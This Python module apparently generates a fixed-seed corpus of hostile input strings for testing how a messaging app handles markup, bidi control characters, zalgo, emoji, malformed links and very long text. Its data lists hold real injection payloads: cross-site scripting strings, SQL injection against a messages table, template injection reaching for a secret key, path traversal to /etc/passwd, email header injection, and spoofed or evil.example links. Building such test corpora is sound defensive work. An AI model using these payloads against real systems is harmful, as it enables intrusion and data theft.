"""Hostile texts: markup, bidi, zalgo, many emoji, links, nulls, very long texts.

A generator with a fixed seed varies twelve families of texts, so every machine has the same texts.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Final

MANY: Final = 2_000
MOST: Final = 1_000
"""The length limit of a message."""
_SEED: Final = 20

MARKUP: Final = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    '"><body onload=alert(1)>',
    "'-alert(1)-'",
    '<a href="javascript:alert(1)">camel</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "]]><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<b hx-get=/sign-out hx-trigger=load>gold</b>",
    "<form action=https://evil.example><input name=q autofocus></form>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e; &amp;amp;",
    "<plaintext>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\x3cscript\x3e\u2028alert(1)\u2029",
)
TEMPLATES: Final = (
    "{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}",
    "{# comment #}{% csrf_token %}",
    "${7*7} #{7*7} <%= 7*7 %> {{7*7}}",
    "{ $name } { NUMBER($n) }",
    "%s %d %n %(name)s %%",
    "{0.__class__.__mro__} {}",
    "'; DROP TABLE games_message; --",
    "\\' OR 1=1 -- \\",
    "*[x](javascript:alert(1))* `code` __init__ ~~no~~",
    '=HYPERLINK("https://evil.example")',
    "../../../../etc/passwd",
)
HEADERS: Final = (
    "Gold\r\nBcc: all@evil.example",
    "Gold\nSubject: You have won\n\n<b>body</b>",
    "\r\n.\r\nQUIT\r\n",
    "\n.\nMAIL FROM:<a@evil.example>",
    "--boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "From the East\nFrom the West",
    "INFO 2026-01-01 root signed in\nERROR no such user",
    "\x1b[2J\x1b[31mroot\x1b[0m\x07",
    "\x9b31mred \x85 next",
    "a\x0bb\x0cc\x1cd\x1de\x1ef",
)
LINKS: Final = (
    "https://example.org/a?b=1&c=2#d",
    "http://example.org",
    "HTTPS://EXAMPLE.ORG/PATH",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onclick='alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://user:secret@evil.example/",
    "https://example.org@evil.example/",
    "https://[::1]:99999/",
    "http://[",
    "https://",
    "https://xn--80ak6aa92e.com/",
    "https://\u0430pple.com/",
    "https://example.org/\u202egpj.exe",
    "https://example.org/%00%0a%0d",
    "see (https://example.org/a_(b)), or https://example.org.",
    "https://javascript:alert(1)@x",
    "http://http://http://a",
    "mailto:all@evil.example",
    "www.evil.example",
    "https://example.org/" + "a" * 900,
)
BIDI: Final = tuple("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
UNSEEN: Final = tuple(
    "\0\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180e\ufff9\ufffb\ufffe\uffff"
    "\U000e0041\U000e007f\ufe0f\ue000\U0010ffff"
)
EMOJI: Final = ("🐪", "👩‍👩‍👧‍👦", "🏴‍☠️", "👍🏿", "🇩🇪", "1️⃣", "🧑🏽‍🚀", "❤️‍🔥", "🫠", "🐫")
SCRIPTS: Final = (
    "العربية שלום",
    "ไม่มีอูฐ ที่นี่",
    "กำ้้้้้้้้้้้",
    "देवनागरी क्ष्म्य",
    "漢字かな交じり文",
    "한국어 각각 각",
    "ﷺﷺﷺ ﷽﷽",
    "𝕳𝖊𝖑𝖑𝖔 𝓦𝓸𝓻𝓵𝓭",
    "ⓔⓥⓘⓛ ｆｕｌｌｗｉｄｔｈ",
    "Ạ̈ ñ n\u0303 Å \u212b",
    "תֱ֭֮֒֓אֶָ֕",
    "ᚠᛇᚻ ꧁꧂ 𒐫𒈙 ⸻",
)
_MARKS: Final = [chr(mark) for mark in range(0x300, 0x370)] + ["\u0489", "\u20dd", "\u20e3"]


def hostile_texts(many: int = MANY) -> list[str]:
    """Return distinct hostile texts, from all families in turn; a few exceed a message's length."""
    chance = random.Random(_SEED)
    found: dict[str, None] = {}
    while len(found) < many:
        family = FAMILIES[len(found) % len(FAMILIES)]
        found[family(chance)] = None
    return list(found)


def _mixed(pieces: tuple[str, ...]) -> Callable[[random.Random], str]:
    """Return a family: words with some of these pieces between them."""

    def make(chance: random.Random) -> str:
        chosen = [chance.choice(pieces) for _ in range(chance.randint(1, 3))]
        return chance.choice(("", "\n", " ", "\t")).join([*chosen, _word(chance)])

    return make


def _word(chance: random.Random) -> str:
    return "".join(chance.choice("abcdefghijklmnopqrstuvwxyzäß0123456789") for _ in range(8))


def _zalgo(chance: random.Random) -> str:
    heap = chance.choice((3, 12, 60, 200))
    return "".join(
        letter + "".join(chance.choices(_MARKS, k=chance.randint(0, heap)))
        for letter in _word(chance)
    )


def _marks_alone(chance: random.Random) -> str:
    return "".join(chance.choices(_MARKS, k=chance.randint(1, 400)))


def _bidi(chance: random.Random) -> str:
    return "".join(chance.choice((*BIDI, "gold", "‎exe.", " ", "(", "שקל")) for _ in range(40))


def _unseen(chance: random.Random) -> str:
    nothing = "".join(chance.choices(UNSEEN, k=chance.randint(1, 60)))
    return nothing + chance.choice(("", _word(chance)))


def _storm(chance: random.Random) -> str:
    return "".join(chance.choices(EMOJI, k=chance.randint(1, 250)))


def _endless(chance: random.Random) -> str:
    """Return one word without breaks, or many lines, or a text beyond the limit."""
    piece = chance.choice(("W", "\n", "漢", "\u00a0", "\u2028", "<", "&", "https://a.b/?", "🐪"))
    return piece * chance.choice((80, 500, MOST, MOST + 1, 70_000)) + _word(chance)


def _noise(chance: random.Random) -> str:
    """Return random characters without surrogates, which UTF-8 can't encode."""
    codes = (
        chance.choice((chance.randrange(0xD800), chance.randrange(0xE000, 0x110000)))
        for _ in range(90)
    )
    return "".join(map(chr, codes))


FAMILIES: Final[tuple[Callable[[random.Random], str], ...]] = (
    _mixed(MARKUP),
    _mixed(TEMPLATES),
    _mixed(HEADERS),
    _mixed(LINKS),
    _mixed(SCRIPTS),
    _zalgo,
    _marks_alone,
    _bidi,
    _unseen,
    _storm,
    _endless,
    _noise,
)
